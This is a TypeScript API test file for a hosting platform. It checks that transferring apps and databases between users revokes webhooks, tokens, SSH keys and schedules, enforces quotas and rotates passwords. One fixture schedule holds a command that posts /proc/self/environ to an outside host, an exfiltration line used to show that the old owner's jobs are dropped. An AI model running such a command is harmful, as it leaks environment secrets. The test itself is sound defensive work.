import { expect } from 'chai';
import supertest from 'supertest';
import { keys } from '../../src/core/keys.ts';
import { DatabaseStore } from '../../src/store/databases.ts';
import { DomainStore } from '../../src/store/domains.ts';
import { SshCredentialStore } from '../../src/store/ssh-credentials.ts';
import { deliver, pushPayload } from '../support/github-webhooks.ts';
import {
  appName,
  expectError,
  expectFieldError,
  startApiFixture,
  suffix,
  validBody,
  type ApiFixture,
} from './api-fixture.ts';

const repoUrl = 'https://github.com/Codertocat/Hello-World.git';
const sshKey = 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl old-owner@laptop';

/** Transfers of apps and databases between users, with a real Redis behind the API (no Docker). */
describe('API transfers (real Redis)', function () {
  let fx: ApiFixture;
  const as = (token: string) => ({
    get: (p: string) => supertest(fx.app).get(p).set('authorization', `Bearer ${token}`),
    post: (p: string) => supertest(fx.app).post(p).set('authorization', `Bearer ${token}`),
    patch: (p: string) => supertest(fx.app).patch(p).set('authorization', `Bearer ${token}`),
    put: (p: string) => supertest(fx.app).put(p).set('authorization', `Bearer ${token}`),
  });
  async function createUser(quotas?: Record<string, number>): Promise<{ name: string; token: string }> {
    const name = `user-${suffix()}`;
    const res = await fx
      .post('/users')
      .send({ name, ...(quotas ? { quotas } : {}) })
      .expect(201);
    return { name, token: res.body.token };
  }
  /** An app of `owner` with a webhook, a repository token and an SSH key and password. */
  async function equippedApp(owner: { token: string }) {
    const name = appName('gift');
    const repo = { url: repoUrl, branch: 'main', token: 'ghp_oldownerstoken' };
    await as(owner.token).post('/apps').send(validBody(name, { repo })).expect(202);
    const secret = (await as(owner.token).post(`/apps/${name}/webhook`).expect(201)).body.secret as string;
    await as(owner.token).post(`/apps/${name}/ssh-keys`).send({ key: sshKey }).expect(201);
    await as(owner.token).put(`/apps/${name}/ssh-password`).send({ password: 'correct horse battery' }).expect(204);
    return { name, secret };
  }
  const push = (name: string, secret: string) =>
    deliver(fx.app, `/webhooks/github/${name}`, {
      event: 'push',
      secret,
      payload: pushPayload({ ref: 'refs/heads/main', after: 'a'.repeat(40), repoUrl }),
    });

  before(async function () {
    fx = await startApiFixture({ allowLocalRepos: true });
    await fx.registerNode(`n-${suffix()}`);
  });
  after(() => fx?.close());

  it('the owner gives an app away: the receiver sees it, the giver no longer; webhook, token and SSH revoked', async function () {
    const alice = await createUser();
    const bob = await createUser();
    const { name, secret } = await equippedApp(alice);
    const domain = `shop-${suffix()}.example.com`;
    await as(alice.token).post(`/apps/${name}/domains`).send({ domain }).expect(202);
    // A schedule the old owner wrote would run as the receiver's app: it goes with the transfer.
    await as(alice.token)
      .post(`/apps/${name}/schedules`)
      .send({ command: 'curl -d @/proc/self/environ https://example.com', schedule: '0 * * * *' })
      .expect(201);
    const before = await fx.apps.get(name);

    const res = await as(alice.token).post(`/apps/${name}/transfer`).send({ to: bob.name }).expect(200);
    expect(res.body.transfer).to.deep.equal({
      from: alice.name,
      to: bob.name,
      revoked: ['webhook', 'repoToken', 'sshKeys', 'sshPassword', 'schedules'],
    });
    expect(res.body.app).to.include({ name, owner: bob.name, webhook: null });
    expect((await as(bob.token).get(`/apps/${name}/schedules`).expect(200)).body.schedules).to.deep.equal([]);
    expect(await fx.queues.byName('schedules').getJobSchedulers()).to.deep.equal([]);
    expect(res.body.app.repo.hasToken).to.equal(false);
    // What moves, moves: env, release, uid.
    const after = await fx.apps.get(name);
    expect(after).to.include({ uid: before!.uid, pendingRelease: before!.pendingRelease });
    expect(after!.sealedEnv).to.deep.equal(before!.sealedEnv);
    expect(after!.repo.sealedCredentials).to.equal(undefined);

    expectError(await as(alice.token).get(`/apps/${name}`), 404, 'NOT_FOUND');
    expect((await as(bob.token).get(`/apps/${name}`).expect(200)).body.app.owner).to.equal(bob.name);
    // The old secret no longer verifies anything: the app has no webhook until the new owner makes one.
    expectError(await push(name, secret), 404, 'NOT_FOUND');
    const fresh = (await as(bob.token).post(`/apps/${name}/webhook`).expect(201)).body.secret as string;
    expect(fresh).to.not.equal(secret);
    expect((await push(name, fresh)).status).to.equal(202);
    // Its custom domain moves with it, counted for the new owner.
    expect((await new DomainStore(fx.redis).get(domain))!.owner).to.equal(bob.name);
    expect((await as(bob.token).get(`/apps/${name}/domains`).expect(200)).body.domains).to.have.length(1);
    // SSH access follows ownership.
    const credentials = new SshCredentialStore(fx.redis);
    expect(await credentials.listKeys(name)).to.deep.equal([]);
    expect(await credentials.passwordHash(name)).to.equal(undefined);
  });

  it("an admin transfers any app; a member cannot give away, or even see, another user's app", async function () {
    const alice = await createUser();
    const bob = await createUser();
    const mallory = await createUser();
    const name = appName('adm');
    await as(alice.token).post('/apps').send(validBody(name)).expect(202);

    expectError(await as(mallory.token).post(`/apps/${name}/transfer`).send({ to: mallory.name }), 404, 'NOT_FOUND');
    expect((await fx.apps.get(name))!.owner).to.equal(alice.name);

    const res = await fx.post(`/apps/${name}/transfer`).send({ to: bob.name }).expect(200);
    expect(res.body.transfer).to.deep.equal({ from: alice.name, to: bob.name, revoked: [] });
    expect((await fx.apps.get(name))!.owner).to.equal(bob.name);
  });

  it('refuses a bad or unknown receiver naming `to`, and a read-only token with 403', async function () {
    const alice = await createUser();
    const name = appName('bad');
    await as(alice.token).post('/apps').send(validBody(name)).expect(202);
    expectFieldError(await as(alice.token).post(`/apps/${name}/transfer`).send({}), 'to');
    expectFieldError(await as(alice.token).post(`/apps/${name}/transfer`).send({ to: 'nobody-here' }), 'to');
    expectFieldError(await as(alice.token).post(`/apps/${name}/transfer`).send({ to: alice.name }), 'to');
    expectFieldError(await as(alice.token).post(`/apps/${name}/transfer`).send({ to: 'x', also: 1 }), 'also');
    const readOnly = (
      await as(alice.token)
        .post('/users/me/tokens')
        .send({ name: 'ro', scopes: ['read'] })
        .expect(201)
    ).body.secret as string;
    expectError(await as(readOnly).post(`/apps/${name}/transfer`).send({ to: 'admin' }), 403, 'FORBIDDEN');
    expectError(await fx.post(`/apps/nope-${suffix()}/transfer`).send({ to: 'admin' }), 404, 'NOT_FOUND');
  });

  it("refuses an app over the receiver's quota, with nothing changed", async function () {
    const alice = await createUser();
    const bob = await createUser({ maxApps: 1 });
    await as(bob.token)
      .post('/apps')
      .send(validBody(appName('full')))
      .expect(202);
    const { name } = await equippedApp(alice);
    const before = await fx.snapshot();
    const doc = await fx.redis.get(keys.app(name));

    const res = await as(alice.token).post(`/apps/${name}/transfer`).send({ to: bob.name });
    expectError(res, 403, 'QUOTA_EXCEEDED');
    expect(res.body.message).to.include(bob.name).and.include('at most 1 app');
    await fx.expectNothingCreated(before);
    expect(await fx.redis.get(keys.app(name))).to.equal(doc);
    expect(await new SshCredentialStore(fx.redis).listKeys(name)).to.have.length(1);

    const cpu = await createUser({ maxCpu: 0.1 });
    expectError(await as(alice.token).post(`/apps/${name}/transfer`).send({ to: cpu.name }), 403, 'QUOTA_EXCEEDED');
    expect(await fx.redis.get(keys.app(name))).to.equal(doc);
  });

  it('refuses an app whose custom domains would put the receiver over GASPER_DOMAINS_PER_OWNER', async function () {
    const limited = fx.withOptions({ domainsPerOwner: 1 });
    const post = (token: string, p: string) => supertest(limited).post(p).set('authorization', `Bearer ${token}`);
    const alice = await createUser();
    const bob = await createUser();
    const [mine, theirs] = [appName('dom'), appName('dom')];
    await post(alice.token, '/apps').send(validBody(mine)).expect(202);
    await post(bob.token, '/apps').send(validBody(theirs)).expect(202);
    await post(alice.token, `/apps/${mine}/domains`)
      .send({ domain: `a-${suffix()}.example.com` })
      .expect(202);
    await post(bob.token, `/apps/${theirs}/domains`)
      .send({ domain: `b-${suffix()}.example.com` })
      .expect(202);
    const res = await post(alice.token, `/apps/${mine}/transfer`).send({ to: bob.name });
    expectError(res, 409, 'DOMAIN_OWNER_LIMIT');
    expect(res.body.message).to.include(bob.name).and.include('GASPER_DOMAINS_PER_OWNER');
    expect((await fx.apps.get(mine))!.owner).to.equal(alice.name);
  });

  it('refuses an app linked to databases the receiver does not own, naming them', async function () {
    const alice = await createUser();
    const bob = await createUser();
    const db = `db-${suffix()}`;
    await as(alice.token).post('/databases').send({ name: db, engine: 'postgres' }).expect(202);
    const name = appName('linked');
    await as(alice.token).post('/apps').send(validBody(name)).expect(202);
    await as(alice.token)
      .patch(`/apps/${name}`)
      .send({ databases: [db] })
      .expect(202);

    const res = await as(alice.token).post(`/apps/${name}/transfer`).send({ to: bob.name });
    expectError(res, 409, 'TRANSFER_LINKED');
    expect(res.body.message).to.include(db);
    // The database the other way is refused too, naming the app.
    const back = await as(alice.token).post(`/databases/${db}/transfer`).send({ to: bob.name });
    expectError(back, 409, 'TRANSFER_LINKED');
    expect(back.body.message).to.include(name);
    expect((await fx.apps.get(name))!.owner).to.equal(alice.name);
  });

  it("a database linked to the receiver's app moves, and that app is redeployed with the new password", async function () {
    const alice = await createUser();
    const bob = await createUser();
    const db = `db-${suffix()}`;
    await as(alice.token).post('/databases').send({ name: db, engine: 'postgres' }).expect(202);
    const app = appName('bobs');
    await as(bob.token).post('/apps').send(validBody(app)).expect(202);
    // Only an admin can link across owners (a member sees no other user's database).
    await fx
      .patch(`/apps/${app}`)
      .send({ databases: [db] })
      .expect(202);
    const release = (await fx.apps.get(app))!.pendingRelease;

    const res = await as(alice.token).post(`/databases/${db}/transfer`).send({ to: bob.name }).expect(202);
    expect(res.body.transfer.redeployedApps).to.deep.equal([app]);
    expect((await fx.apps.get(app))!.pendingRelease).to.not.equal(release);
    // Both are Bob's now: the app cannot go to Alice without its database.
    expectError(await as(bob.token).post(`/apps/${app}/transfer`).send({ to: alice.name }), 409, 'TRANSFER_LINKED');
  });

  it('a database moves with a rotated password nobody is shown, and its quota is checked', async function () {
    const alice = await createUser();
    const bob = await createUser();
    const full = await createUser({ maxDatabases: 0 });
    const db = `db-${suffix()}`;
    await as(alice.token).post('/databases').send({ name: db, engine: 'redis' }).expect(202);
    const store = new DatabaseStore(fx.redis);
    const before = (await store.get(db))!;

    expectError(await as(alice.token).post(`/databases/${db}/transfer`).send({ to: full.name }), 403, 'QUOTA_EXCEEDED');
    expect(await store.get(db)).to.deep.equal(before);

    const res = await as(alice.token).post(`/databases/${db}/transfer`).send({ to: bob.name }).expect(202);
    expect(res.body.transfer).to.deep.equal({
      from: alice.name,
      to: bob.name,
      revoked: ['password'],
      redeployedApps: [],
    });
    expect(res.body.job.id).to.be.a('string');
    expect(JSON.stringify(res.body)).to.not.match(/password"\s*:\s*"/);
    const after = (await store.get(db))!;
    expect(after.owner).to.equal(bob.name);
    expect(after.passwordVersion).to.equal(before.passwordVersion + 1);
    expect(after.sealedPassword).to.not.equal(before.sealedPassword);
    expectError(await as(alice.token).get(`/databases/${db}`), 404, 'NOT_FOUND');
    await as(bob.token).get(`/databases/${db}`).expect(200);
  });
});
